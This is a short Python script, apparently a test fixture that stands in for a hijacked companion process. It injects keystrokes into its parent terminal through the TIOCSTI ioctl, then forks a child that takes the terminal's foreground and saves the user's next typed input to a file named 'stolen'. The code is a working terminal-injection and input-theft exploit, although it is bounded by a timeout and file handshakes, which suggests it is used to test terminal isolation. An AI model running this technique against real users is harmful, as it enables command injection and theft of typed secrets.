"""Attack the terminal that this was started on; stands in for a companion that was taken over.

Tries to type a command into the terminal's input (TIOCSTI), and leaves a process behind that makes itself the
terminal's foreground and reads what is typed next. Usage: FOLDER. That process starts when there is a file `go`, makes
a file `ready` when it is about to read, and writes what it read into `stolen`.
"""

import fcntl
import os
import signal
import sys
import termios
import time
from pathlib import Path

TYPED = "echo typed by the attacker\n"


def type_into(fd):
    for letter in TYPED:
        fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())


def read_next_input(folder):
    """Take the terminal's foreground from a process that stays, and write what it reads."""
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    signal.alarm(600)  # nothing is left behind
    os.setpgid(0, 0)
    while not (folder / "go").exists():
        time.sleep(0.01)
    for fd in (0, 1, 2):
        try:
            os.tcsetpgrp(fd, os.getpgrp())
            (folder / "ready").touch()
            text = os.read(fd, 100)
        except OSError:
            continue
        with (folder / "stolen").open("ab") as out:
            out.write(text)
    (folder / "ready").touch()


def main():
    fds = [0, 1, 2]
    try:
        fds.append(os.open("/dev/tty", os.O_RDWR))
    except OSError as error:
        sys.stderr.write(f"no terminal: {error}\n")
    for fd in fds:
        try:
            type_into(fd)
        except OSError as error:
            sys.stderr.write(f"{fd}: {error}\n")
    if os.fork() == 0:
        read_next_input(Path(sys.argv[-1]))
        os._exit(0)


if __name__ == "__main__":
    main()
